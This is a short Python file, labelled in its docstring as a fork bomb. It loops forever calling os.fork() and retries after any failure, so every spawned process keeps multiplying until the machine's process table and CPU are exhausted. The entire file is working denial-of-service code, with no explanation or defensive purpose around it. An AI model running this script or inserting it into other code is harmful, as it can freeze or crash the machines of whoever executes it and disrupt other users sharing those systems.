"""A fork bomb: every process forks as often as it can, for ever."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
